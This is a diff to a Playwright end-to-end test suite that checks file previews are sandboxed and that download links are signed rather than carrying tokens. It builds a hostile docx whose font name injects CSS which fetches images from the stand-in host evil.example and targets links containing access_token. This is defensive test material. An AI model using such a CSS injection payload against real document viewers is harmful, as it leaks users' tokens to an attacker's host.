@@ -3,9 +3,11 @@ import os from 'node:os';
 import path from 'node:path';
 import zlib from 'node:zlib';
 import ExcelJS from 'exceljs';
+// exceljs's own zip writer, to make a docx as Word stores one.
+import JSZip from 'jszip';
 import type { Browser, Locator, Page } from 'playwright-core';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { launchBrowser, screenshot } from './browser.ts';
+import { launchBrowser, screenshot, takeCspViolations } from './browser.ts';
 import { acceptConfirm, baseUrl, columnTexts, listTotal, signIn } from './session.ts';
 import { freshGeneralDefect } from './workflow-steps.ts';
 
@@ -66,6 +68,33 @@ function tinyPdf(): Buffer {
   body += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`).join('')}`;
   body += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF\n`;
   return Buffer.from(body, 'latin1');
+}
+
+/** Where the hostile docx would send what its styles read: a host the previews may never reach. */
+const EVIL_HOST = 'evil.example';
+
+/**
+ * A docx whose style carries a font name that closes its rule and opens others: a page-wide
+ * background fetched from another host, and a rule on links holding a token.
+ */
+async function hostileDocx(text: string): Promise<Buffer> {
+  const font = `Evil;}body{background-image:url(https://${EVIL_HOST}/leak.png)}a[href*=access_token]{background-image:url(https://${EVIL_HOST}/token.png)}x{color:red`;
+  const w = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"';
+  const zip = new JSZip();
+  zip.file('[Content_Types].xml', '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/><Override PartName="/word/styles.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.styles+xml"/></Types>');
+  zip.file('_rels/.rels', '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>');
+  zip.file('word/_rels/document.xml.rels', '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/styles" Target="styles.xml"/></Relationships>');
+  zip.file('word/styles.xml', `<?xml version="1.0" encoding="UTF-8"?><w:styles ${w}><w:style w:type="paragraph" w:styleId="Hostile"><w:name w:val="Hostile"/><w:rPr><w:rFonts w:ascii="${font}"/></w:rPr></w:style></w:styles>`);
+  zip.file('word/document.xml', `<?xml version="1.0" encoding="UTF-8"?><w:document ${w}><w:body><w:p><w:pPr><w:pStyle w:val="Hostile"/></w:pPr><w:r><w:t>${text}</w:t></w:r></w:p></w:body></w:document>`);
+  return zip.generateAsync({ type: 'nodebuffer' });
+}
+
+/** The sandbox tokens of a preview frame: never scripts together with the app's origin. */
+async function expectSandboxed(frame: Locator): Promise<void> {
+  const tokens = ((await frame.getAttribute('sandbox')) ?? 'missing').split(/\s+/);
+  expect(await frame.evaluate((element) => element.hasAttribute('sandbox'))).toBe(true);
+  expect(tokens).not.toContain('allow-scripts');
+  expect(tokens).not.toContain('allow-same-origin');
 }
 
 function cellText(value: ExcelJS.CellValue): string {
@@ -143,11 +172,17 @@ describe('files: import, export and attachments', () => {
   let dir: string;
   let templateFile: string;
   let errorFile: string;
+  /** Every URL the browser asked for, to prove that none carries a token or a uakey. */
+  const requested: string[] = [];
+  /** Every URL that got an answer. */
+  const answered: string[] = [];
 
   beforeAll(async () => {
     dir = fs.mkdtempSync(path.join(os.tmpdir(), 'e2e-files-'));
     browser = await launchBrowser();
     page = await signIn(browser);
+    page.context().on('request', (request) => requested.push(request.url()));
+    page.context().on('response', (response) => answered.push(response.url()));
   });
   afterAll(async () => {
     await browser.close();
@@ -341,31 +376,39 @@ describe('files: import, export and attachments', () => {
       await attachments().getByRole('link', { name: `下载 ${TXT_NAME}` }).waitFor();
       await screenshot(page, 'files-defect-uploaded');
 
-      // Preview of the image.
+      // Preview of the image: its bytes, fetched by a signed link, in a sandboxed frame.
       await photos().getByRole('button', { name: `预览 ${imageName}` }).click();
       const imagePreview = page.getByRole('dialog').filter({ hasText: `文件预览 - ${imageName}` });
       await imagePreview.waitFor();
-      const previewImage = imagePreview.locator(`img[alt="${imageName}"]`);
-      await previewImage.waitFor();
+      const imageFrame = imagePreview.locator(`iframe[title="${imageName}"]`);
+      await imageFrame.waitFor();
+      await expectSandboxed(imageFrame);
+      const previewImage = imageFrame.contentFrame().locator(`img[alt="${imageName}"]`);
       await expect.poll(() => previewImage.evaluate((image: HTMLImageElement) => image.complete && image.naturalWidth)).toBeGreaterThan(0);
       await screenshot(page, 'files-preview-image');
       await page.keyboard.press('Escape');
       await imagePreview.waitFor({ state: 'hidden' });
 
-      // Preview of the pdf: the browser's viewer in an object element.
+      // Preview of the pdf: the browser's viewer in a frame whose answer is sandboxed by its CSP.
       await attachments().getByRole('button', { name: `预览 ${PDF_NAME}` }).click();
       const pdfPreview = page.getByRole('dialog').filter({ hasText: `文件预览 - ${PDF_NAME}` });
       await pdfPreview.waitFor();
-      const pdfObject = pdfPreview.locator('object[type="application/pdf"]');
-      await pdfObject.waitFor();
-      const pdfUrl = await pdfObject.getAttribute('data');
-      expect(pdfUrl).toBeTruthy();
+      const pdfFrame = pdfPreview.locator(`iframe[title="${PDF_NAME}"]`);
+      await pdfFrame.waitFor();
+      const pdfUrl = await pdfFrame.getAttribute('src');
+      // The browser's viewer (an extension frame) has read the file: its toolbar shows the name.
+      await expect.poll(() => page.frames().some((frame) => frame.url().startsWith('chrome-extension://'))).toBe(true);
+      const pdfViewer = page.frames().find((frame) => frame.url().startsWith('chrome-extension://'));
+      await pdfViewer?.getByText(PDF_NAME).first().waitFor();
+      expect(pdfUrl).toMatch(/signature=/);
+      expect(pdfUrl).not.toMatch(/access_token|uakey/);
       await screenshot(page, 'files-preview-pdf');
       await page.keyboard.press('Escape');
       await pdfPreview.waitFor({ state: 'hidden' });
-      // The url the viewer shows answers the pdf itself.
+      // The signed link answers the pdf itself, sandboxed, with no token presented.
       const served = await page.request.get(new URL(pdfUrl as string, baseUrl()).toString());
       expect(served.ok()).toBe(true);
+      expect(served.headers()['content-security-policy']).toMatch(/^sandbox;/);
       expect((await served.body()).subarray(0, 5).toString('latin1')).toBe('%PDF-');
 
       // Download of the file the list shows.
@@ -409,6 +452,53 @@ describe('files: import, export and attachments', () => {
       // The attachments field allows 100 MB: a file over it is not worth generating here; the
       // same check (checkSize) is covered by the image case above and by the unit tests.
     });
+
+    it('previews a hostile docx and a workbook in sandboxed frames whose styles never reach the app page', async () => {
+      await openDefect();
+      const book = new ExcelJS.Workbook();
+      book.addWorksheet('巡检').addRows([['编号', '结论'], ['E2E-XL-1', '合格']]);
+      await attachments().locator('[data-testid="file-upload-input"]').setInputFiles([
+        { name: 'e2e-hostile.docx', mimeType: 'application/vnd.openxmlformats-officedocument.wordprocessingml.document', buffer: await hostileDocx('E2E hostile document') },
+        { name: 'e2e-sheet.xlsx', mimeType: 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet', buffer: Buffer.from(await book.xlsx.writeBuffer()) },
+      ]);
+      await attachments().getByRole('link', { name: '下载 e2e-hostile.docx' }).waitFor();
+      await attachments().getByRole('link', { name: '下载 e2e-sheet.xlsx' }).waitFor();
+
+      await attachments().getByRole('button', { name: '预览 e2e-hostile.docx' }).click();
+      const docxPreview = page.getByRole('dialog').filter({ hasText: '文件预览 - e2e-hostile.docx' });
+      const docxFrame = docxPreview.locator('iframe[title="e2e-hostile.docx"]');
+      await docxFrame.waitFor();
+      await expectSandboxed(docxFrame);
+      await docxFrame.contentFrame().getByText('E2E hostile document').waitFor();
+      // The document's rules live in its frame only; the app page holds none of them.
+      expect((await docxFrame.contentFrame().locator('style').allTextContents()).some((css) => css.includes(EVIL_HOST))).toBe(true);
+      expect(await page.evaluate((host) => [...document.querySelectorAll('style')].some((style) => style.textContent?.includes(host)), EVIL_HOST)).toBe(false);
+      await screenshot(page, 'files-preview-docx-hostile');
+      // The frame's policy refused the load the styles asked for, and that is the only violation.
+      const refused: string[] = [];
+      await expect.poll(() => refused.push(...takeCspViolations())).toBeGreaterThan(0);
+      expect(refused.every((violation) => violation.includes(`https://${EVIL_HOST}/`) && violation.includes('about:srcdoc'))).toBe(true);
+      expect(refused.every((violation) => /blocked/.test(violation))).toBe(true);
+      expect(answered.filter((url) => url.includes(EVIL_HOST))).toEqual([]);
+      await page.keyboard.press('Escape');
+      await docxPreview.waitFor({ state: 'hidden' });
+
+      await attachments().getByRole('button', { name: '预览 e2e-sheet.xlsx' }).click();
+      const sheetPreview = page.getByRole('dialog').filter({ hasText: '文件预览 - e2e-sheet.xlsx' });
+      const sheetFrame = sheetPreview.locator('iframe[title="e2e-sheet.xlsx - 巡检"]');
+      await sheetFrame.waitFor();
+      await expectSandboxed(sheetFrame);
+      await sheetFrame.contentFrame().getByText('E2E-XL-1').waitFor();
+      await screenshot(page, 'files-preview-xlsx');
+      await page.keyboard.press('Escape');
+      await sheetPreview.waitFor({ state: 'hidden' });
+
+      for (const name of ['e2e-hostile.docx', 'e2e-sheet.xlsx']) {
+        await attachments().getByRole('button', { name: `移除 ${name}` }).click();
+        await acceptConfirm(page, `是否移除 ${name} ?`);
+        await attachments().getByRole('link', { name: `下载 ${name}` }).waitFor({ state: 'detached' });
+      }
+    });
   });
 
   it('sets the avatar from an uploaded picture in the personal settings and shows it in the header', async () => {
@@ -426,10 +516,15 @@ describe('files: import, export and attachments', () => {
     await toastWith(page, '头像已更新').waitFor();
     const headerAvatar = header.locator('img[alt="系统管理员"]');
     await headerAvatar.waitFor();
-    expect(await headerAvatar.getAttribute('src')).toContain('attachment/fileDownload');
+    expect(await headerAvatar.getAttribute('src')).toMatch(/attachment\/fileDownload\?infoNo=\w+&viewMode=inline&expires=\d+&user=\w+&signature=/);
     expect(await headerAvatar.evaluate((image: HTMLImageElement) => image.naturalWidth)).toBeGreaterThan(0);
     await screenshot(page, 'files-avatar-set');
     await centre.getByRole('button', { name: '移除头像' }).click();
     await headerAvatar.waitFor({ state: 'detached' });
+  });
+
+  it('asked for no URL carrying a token or a uakey: downloads, previews, thumbnails and avatars use signed links', () => {
+    expect(requested.filter((url) => url.includes('attachment/fileDownload')).length).toBeGreaterThan(0);
+    expect(requested.filter((url) => /[?&](access_token|uakey)=/.test(url))).toEqual([]);
   });
 });
